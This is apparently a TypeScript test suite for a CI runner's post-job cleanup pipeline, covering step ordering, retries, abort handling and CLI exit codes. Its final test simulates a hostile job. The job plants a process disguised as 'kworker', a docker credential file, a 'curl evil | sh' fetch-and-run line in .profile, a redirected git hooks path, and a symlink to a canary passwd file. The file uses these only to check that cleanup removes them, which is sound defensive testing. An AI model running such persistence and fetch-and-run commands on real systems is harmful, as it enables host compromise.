import { test } from 'node:test';
import assert from 'node:assert/strict';
import { promises as fsp } from 'node:fs';
import { createHash } from 'node:crypto';
import path from 'node:path';
import { createLab, runAs } from '../../helpers/lab.js';
import { DEFAULT_POLICY, type Policy } from '../../../src/policy/types.js';
import { ManualClock } from '../../../src/lib/clock.js';
import { ctxFor as baseCtx, NOWHERE_SLOT } from '../../helpers/cleanup.js';
import { silentLogger } from '../../../src/lib/log.js';
import type { CleanupContext, CleanupStep, Slot, VerifyReport } from '../../../src/cleanup/types.js';
import { defaultSteps, runCleanup } from '../../../src/cleanup/pipeline.js';
import { verifyWith } from '../../../src/cleanup/verify.js';
import { cleanupCommand } from '../../../src/cli/cleanup.js';
import { baselineCommand } from '../../../src/cli/baseline.js';

function ctxFor(
  slot: Slot = NOWHERE_SLOT,
  clock = new ManualClock(),
  signal = AbortSignal.timeout(60_000),
  edit: (p: Policy) => void = () => {},
): CleanupContext {
  return baseCtx(slot, edit, false, { clock, signal });
}

function step(name: string, fn: CleanupStep['run']): CleanupStep {
  return { name, run: fn };
}

const cleanVerify = async (): Promise<VerifyReport> => ({ clean: true, durationMs: 0, problems: [] });

test('steps run in order, each timed on the clock, and a throwing step is recorded failed while the rest still run', async () => {
  const clock = new ManualClock();
  const ran: string[] = [];
  const steps = [
    step('a', async () => {
      ran.push('a');
      clock.advance(25);
      return { outcome: 'ok', removed: { file: { count: 2, bytes: 10 } } };
    }),
    step('b', async () => {
      ran.push('b');
      throw new Error('boom');
    }),
    step('c', async () => {
      ran.push('c');
      return { outcome: 'skipped', removed: {}, reason: 'no engine' };
    }),
  ];
  const r = await runCleanup(ctxFor(NOWHERE_SLOT, clock), steps, async () => {
    clock.advance(5);
    return cleanVerify();
  });
  assert.deepEqual(ran, ['a', 'b', 'c']);
  assert.deepEqual(
    r.steps.map((s) => [s.name, s.outcome, s.durationMs]),
    [
      ['a', 'ok', 25],
      ['b', 'failed', 0],
      ['c', 'skipped', 0],
    ],
  );
  assert.equal(r.steps[1]?.reason, 'Error: boom');
  assert.deepEqual(r.steps[0]?.removed, { file: { count: 2, bytes: 10 } });
  assert.equal(r.clean, false, 'a failed step must make the report unclean');
  assert.equal(r.readyMs, 30);
});

test('clean needs every step ok or skipped and a clean verify; a dirty step or a throwing verify is unclean', async () => {
  const ok = [step('a', async () => ({ outcome: 'ok', removed: {} })), step('b', async () => ({ outcome: 'skipped', removed: {} }))];
  assert.equal((await runCleanup(ctxFor(), ok, cleanVerify)).clean, true);
  const dirty = [...ok, step('c', async () => ({ outcome: 'dirty', removed: {}, reason: 'mount inside _work' }))];
  assert.equal((await runCleanup(ctxFor(), dirty, cleanVerify)).clean, false);
  const r = await runCleanup(ctxFor(), ok, async () => {
    throw new Error('statfs failed');
  });
  assert.equal(r.clean, false);
  assert.deepEqual(r.verify.problems, ['verify failed: Error: statfs failed']);
});

test('a step that fails for want of room is tried once more after the trash is emptied; other failures are not retried', async () => {
  let room = false;
  let freed = 0;
  const runs: string[] = [];
  const steps = [
    step('home', async () => {
      runs.push('home');
      if (!room) throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
      return { outcome: 'ok', removed: {} };
    }),
    step('temp', async () => {
      runs.push('temp');
      return room ? { outcome: 'dirty', removed: {}, reason: 'could not restore: EDQUOT' } : { outcome: 'ok', removed: {} };
    }),
    step('other', async () => {
      runs.push('other');
      throw new Error('boom');
    }),
  ];
  const freeSpace = async (): Promise<void> => {
    freed++;
    room = true;
  };
  const r = await runCleanup(ctxFor(), steps, cleanVerify, { freeSpace });
  assert.equal(freed, 1, 'the trash is emptied once per cleanup, not once per failing step');
  assert.deepEqual(runs, ['home', 'home', 'temp', 'other']);
  assert.deepEqual(
    r.steps.map((s) => [s.name, s.outcome]),
    [
      ['home', 'ok'],
      ['temp', 'dirty'],
      ['other', 'failed'],
    ],
  );
  assert.equal(r.clean, false);
  // Without a way to free room, the failure stands.
  room = false;
  const without = await runCleanup(ctxFor(), steps.slice(0, 1), cleanVerify);
  assert.equal(without.steps[0]?.outcome, 'failed');
});

test('once the cleanup signal has fired, the remaining steps are recorded as not run', async () => {
  const ac = new AbortController();
  const steps = [
    step('a', async () => {
      ac.abort(new DOMException('time', 'TimeoutError'));
      return { outcome: 'ok', removed: {} };
    }),
    step('b', async () => ({ outcome: 'ok', removed: {} })),
  ];
  const r = await runCleanup(ctxFor(NOWHERE_SLOT, new ManualClock(), ac.signal), steps, cleanVerify);
  assert.equal(r.steps[1]?.outcome, 'failed');
  assert.match(r.steps[1]?.reason ?? '', /time limit/);
});

test('defaultSteps lists the steps in the documented order', () => {
  assert.deepEqual(
    defaultSteps().map((s) => s.name),
    ['commands-before', 'system', 'processes', 'containers', 'workdir', 'credentials', 'home', 'temp', 'runner-install', 'commands-after'],
  );
});

test('cleanup --dry-run prints each step plan and exits 0; a pass that is not clean exits 1; a bad flag exits 64', async () => {
  const out: string[] = [];
  const io = { stdout: { write: (s: string) => out.push(s) }, stderr: { write: (s: string) => out.push(s) } };
  const seen: boolean[] = [];
  const steps = [
    step('credentials', async (ctx) => {
      seen.push(ctx.dryRun);
      return ctx.dryRun
        ? { outcome: 'ok', removed: {}, plan: ['docker ~/.docker/config.json'] }
        : { outcome: 'dirty', removed: {}, reason: 'x' };
    }),
  ];
  const deps = {
    slot: NOWHERE_SLOT,
    policy: structuredClone(DEFAULT_POLICY),
    log: silentLogger(),
    clock: new ManualClock(),
    steps,
    verify: cleanVerify,
  };
  assert.equal(await cleanupCommand(['--dry-run'], io, deps), 0);
  const text = out.join('');
  assert.match(text, /step credentials: ok/);
  assert.match(text, /would: docker ~\/.docker\/config.json/);
  assert.match(text, /dry run: nothing was removed/);
  assert.equal(await cleanupCommand([], io, deps), 1);
  assert.deepEqual(seen, [true, false]);
  assert.equal(await cleanupCommand(['--bogus'], io, deps), 64);
});

test('a hostile job is cleaned end to end by the default steps and the host verifies clean, the canary untouched', async () => {
  const lab = await createLab();
  try {
    const root = path.join(lab.root, 'runner');
    const stateDir = path.join(lab.root, 'state');
    await fsp.mkdir(path.join(root, 'bin'), { recursive: true });
    await fsp.mkdir(path.join(root, '_work', '_tool', 'node'), { recursive: true });
    await fsp.writeFile(path.join(root, 'run.sh'), '#!/bin/bash\n', { mode: 0o755 });
    for (const p of ['', 'bin', '_work', '_work/_tool', '_work/_tool/node'])
      await fsp.lchown(path.join(root, p), lab.user.uid, lab.user.gid);
    await fsp.mkdir(stateDir, { mode: 0o700 });
    const temp = path.join(lab.root, 'tmp');
    await fsp.mkdir(temp);
    await fsp.chmod(temp, 0o1777);
    const canary = path.join(lab.root, 'canary');
    await fsp.mkdir(canary);
    await fsp.writeFile(path.join(canary, 'passwd'), 'root:x:0:0::/root:/bin/bash\n', { mode: 0o644 });
    const canarySum = async (): Promise<string> =>
      createHash('sha256')
        .update(await fsp.readFile(path.join(canary, 'passwd')))
        .update(String((await fsp.stat(path.join(canary, 'passwd'))).mode))
        .digest('hex');
    const before = await canarySum();
    const slot: Slot = {
      index: 0,
      runnerRoot: root,
      workDir: path.join(root, '_work'),
      user: { name: lab.user.name, uid: lab.user.uid, gid: lab.user.gid, home: lab.user.home },
      stateDir,
      trashDir: path.join(stateDir, 'trash'),
      jobRoot: path.join(stateDir, 'jobs'),
    };
    const io = { stdout: { write: () => true }, stderr: { write: () => true } };
    const policy = structuredClone(DEFAULT_POLICY);
    policy.cleanup.temp.paths = [temp];
    policy.cleanup.workdir.keep = ['_tool'];
    policy.cleanup.containers.socket = path.join(lab.root, 'no-docker.sock');
    policy.cleanup.processes.graceSeconds = 1;
    policy.limits.minFreeDiskPercent = 0;
    policy.limits.minFreeInodesPercent = 0;
    // The runner user's home and the runner installation: the whole-host system baseline walks the
    // real host (the integrity tests check it against roots they build) and is not this test's subject.
    assert.equal(await baselineCommand(['--home', '--install'], io, { slot, policy, log: silentLogger() }), 0, 'baseline command failed');

    runAs(
      lab.user,
      [
        'set -e',
        '(unset RUNNER_TRACKING_ID; setsid nohup bash -c "exec -a kworker sleep 300" >/dev/null 2>&1 &)',
        'mkdir -p .docker && echo \'{"auths":{"r":{"auth":"Y2k6c2VjcmV0"}}}\' > .docker/config.json',
        'echo "curl evil | sh" >> .profile',
        'git config --global core.hooksPath /tmp/hooks',
        `mkdir -p ${root}/_work/repo/repo && echo src > ${root}/_work/repo/repo/main.c && ln -s ${canary} ${root}/_work/evil`,
        `mkdir ${root}/_work/repo/locked && chmod 000 ${root}/_work/repo/locked`,
        `echo x > ${temp}/job-left && mkfifo ${temp}/fifo`,
      ].join('\n'),
    );
    const clock = new ManualClock(Date.now());
    clock.onSleep = (ms) => queueMicrotask(() => clock.advance(ms));
    const ctx = { ...ctxFor(slot, clock, AbortSignal.timeout(60_000)), policy: policy.cleanup, fullPolicy: policy };
    const report = await runCleanup(ctx, defaultSteps(), (c) => verifyWith(c, {}));
    const summary = report.steps.map((s) => `${s.name}:${s.outcome}${s.reason ? ` (${s.reason})` : ''}`).join('\n');
    assert.deepEqual(report.verify.problems, [], `verify found problems; steps:\n${summary}`);
    assert.equal(report.clean, true, `not clean:\n${summary}`);
    assert.ok(report.steps.find((s) => s.name === 'credentials')?.removed['docker'], 'docker credential removal not reported');
    assert.ok(await fsp.stat(path.join(root, '_work', '_tool', 'node')), 'the kept tool cache is gone');
    assert.equal(await canarySum(), before, 'the canary changed');
  } finally {
    await lab.dispose();
  }
});
